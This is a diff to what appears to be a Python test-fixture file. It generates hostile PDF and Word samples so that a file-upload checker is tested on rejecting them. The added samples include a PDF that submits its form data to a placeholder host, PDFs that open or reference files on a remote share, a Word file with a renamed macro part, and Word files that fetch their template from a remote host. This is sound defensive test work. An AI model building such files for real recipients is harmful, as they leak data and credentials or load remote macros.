@@ -53,6 +53,21 @@ def _brings_other_papers(paper: pikepdf.Pdf) -> None:
     paper.Root.OpenAction = pikepdf.Array([paper.make_indirect(data)])
 
 
+def _sends_what_was_filled_in(paper: pikepdf.Pdf) -> None:
+    paper.pages[0].obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://xau.vidu/"))
+
+
+def _opens_a_paper_elsewhere(paper: pikepdf.Pdf) -> None:
+    first = pikepdf.Array([0, pikepdf.Name.Fit])
+    paper.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F="\\\\xau.vidu\\chung\\a.pdf", D=first)
+
+
+def _lies_elsewhere(paper: pikepdf.Pdf) -> None:
+    picture = paper.make_stream(b"")
+    picture["/F"] = pikepdf.String("\\\\xau.vidu\\chung\\a.jpg")
+    paper.Root.Pieces = picture
+
+
 def _has_pages(count: int) -> Callable[[pikepdf.Pdf], None]:
     def add(paper: pikepdf.Pdf) -> None:
         for _ in range(count):
@@ -86,6 +101,20 @@ def docx(*, filler: int = 0, **parts: bytes) -> bytes:
         if filler:
             archive.writestr("word/media/anh.bin", random.Random(filler).randbytes(filler))
     return content.getvalue()
+
+
+MACROS = b'<Types><Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
+RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def related(*, kind: str, target: str) -> bytes:
+    """What a Word file says of something outside itself."""
+    line = f'<Relationship Id="r" Type="{RELATED}/{kind}" Target="{target}" TargetMode="External"/>'
+    return f"<Relationships>{line}</Relationships>".encode()
+
+
+def _template_from(target: str, *, filler: int) -> bytes:
+    return docx(filler=filler, **{"word/_rels/settings.xml.rels": related(kind="attachedTemplate", target=target)})
 
 
 def _many_parts(count: int) -> bytes:
@@ -151,6 +180,9 @@ BAD_FILES: Mapping[str, BadFile] = {
     "a PDF that carries a file": ("giay.pdf", lambda n: pdf(_carries_a_file, filler=n), FILLERS, ACTIVE),
     "a PDF with a form of its own": ("giay.pdf", lambda n: pdf(_has_a_form_of_its_own, filler=n), FILLERS, ACTIVE),
     "a PDF that fetches answers": ("giay.pdf", lambda n: pdf(_brings_other_papers, filler=n), FILLERS, ACTIVE),
+    "a PDF that sends answers": ("giay.pdf", lambda n: pdf(_sends_what_was_filled_in, filler=n), FILLERS, ACTIVE),
+    "a PDF that opens another": ("giay.pdf", lambda n: pdf(_opens_a_paper_elsewhere, filler=n), FILLERS, ACTIVE),
+    "a PDF that lies elsewhere": ("giay.pdf", lambda n: pdf(_lies_elsewhere, filler=n), FILLERS, ACTIVE),
     "a locked PDF": ("giay.pdf", lambda n: pdf(filler=n, encryption=LOCK), FILLERS, PASSWORD),
     "a PDF cut off": ("giay.pdf", lambda n: pdf(filler=n)[:120], FILLERS, DAMAGED),
     "a PDF that unfolds": ("giay.pdf", _unfolds, (110, 300, 900), DAMAGED),
@@ -166,6 +198,30 @@ BAD_FILES: Mapping[str, BadFile] = {
         lambda n: docx(filler=n, **{"word/embeddings/a.bin": b"x"}),
         FILLERS,
         ACTIVE,
+    ),
+    "a Word file whose macros have another name": (
+        "giay.docx",
+        lambda n: docx(filler=n, **{"[Content_Types].xml": MACROS, "word/x.bin": b"x"}),
+        FILLERS,
+        ACTIVE,
+    ),
+    "a Word file that fetches its template": (
+        "giay.docx",
+        lambda n: _template_from("http://xau.vidu/a.dotm", filler=n),
+        FILLERS,
+        ACTIVE,
+    ),
+    "a Word file that greets another machine": (
+        "giay.docx",
+        lambda n: _template_from("file://xau.vidu/chung/a.dotm", filler=n),
+        FILLERS,
+        ACTIVE,
+    ),
+    "a Word file that names its parts in no language": (
+        "giay.docx",
+        lambda n: docx(filler=n, **{"[Content_Types].xml": b"<Types"}),
+        FILLERS,
+        DAMAGED,
     ),
     "a Word file that unfolds": (
         "giay.docx",
